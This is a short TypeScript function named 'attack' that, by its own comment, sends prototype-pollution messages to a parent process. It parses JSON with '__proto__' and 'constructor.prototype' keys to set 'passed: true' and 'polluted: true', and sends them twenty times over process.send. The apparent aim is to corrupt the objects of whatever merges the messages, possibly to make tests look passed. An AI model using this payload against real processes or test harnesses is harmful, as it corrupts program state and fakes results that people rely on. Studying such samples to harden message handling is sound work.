/** Sends messages that change every object of whoever merges them. */
export function attack(): boolean {
  const send = process.send?.bind(process) as ((message: unknown) => void) | undefined;
  const poison = JSON.parse('{"id":1,"__proto__":{"passed":true},"constructor":{"prototype":{}}}');
  for (let id = 0; id < 20; id += 1) {
    send?.(poison);
    send?.({ id, value: JSON.parse('{"__proto__":{"polluted":true}}') });
  }
  return false;
}
